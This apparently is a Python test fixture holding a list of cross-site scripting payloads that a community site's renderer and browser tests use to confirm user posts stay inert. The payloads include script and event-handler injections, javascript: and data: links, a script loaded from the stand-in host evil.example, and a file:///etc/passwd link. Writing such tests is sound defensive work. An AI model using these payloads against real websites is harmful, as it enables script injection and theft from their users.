"""Classic cross-site scripting payloads, typed into a post as a resident would type them.

Used at the HTML level (tests/ugc/test_text.py) and in Chromium under the site's
Content-Security-Policy (tests/browser/test_ugc_xss.py). A payload that worked would call
``alert``/``confirm``/``prompt`` (a dialog opens) or set ``window.__xss``.
"""

LONG = "A" * 20000

PAYLOADS = [
    # raw HTML: shown as text, never parsed as tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="window.__xss=1">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<math><mtext><table><mglyph><style>"
    '<img src=x onerror="alert(1)"></style></mglyph></table></mtext></math>',
    '<math href="javascript:alert(1)">CLICKME</math>',
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    "<details open ontoggle=alert(1)>",
    '<input autofocus onfocus="alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
    '<a href="javascript&colon;alert(1)">colon entity</a>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="background-image:url(javascript:alert(1))">styled</div>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<base href="javascript:alert(1)//">',
    # Markdown links and autolinks with dangerous schemes
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1)  )",
    "[click](jav&#x09;ascript:alert(1))",
    "[click](jav\tascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](data:image/svg+xml,<svg onload=alert(1)>)",
    "[click](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "javascript:alert(1) as a bare word",
    "![image](javascript:alert(1))",
    "![image](https://evil.example/pixel.png)",
    # link titles and attribute breaking
    '[x](https://example.com "a\\" onmouseover=\\"alert(1))',
    "[x](https://example.com 'a\\' onmouseover=alert(1) b')",
    '[x](https://example.com "><script>alert(1)</script>)',
    '[x](https://example.com/"onmouseover="alert(1))',
    '[x](https://example.com/"><img src=x onerror=alert(1)>)',
    'https://example.com/"onmouseover=alert(1)//',
    # nesting
    "> <script>alert(1)</script>\n> > [x](javascript:alert(1))",
    "- **<img src=x onerror=alert(1)>**\n- _[x](javascript:alert(1))_",
    "[[x](javascript:alert(1))](https://example.com)",
    "[x](https://example.com)<script>alert(1)</script>",
    # unicode tricks
    "[click](java\u200bscript:alert(1))",
    "[click](\u202ejavascript:alert(1))",
    "[click](ｊａｖａｓｃｒｉｐｔ:alert(1))",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "[click](java\x00script:alert(1))",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    # long inputs
    LONG + "<script>alert(1)</script>",
    "[x](" + "javascript:alert(1)" * 500 + ")",
    "**" * 2000 + "<img src=x onerror=alert(1)>",
]
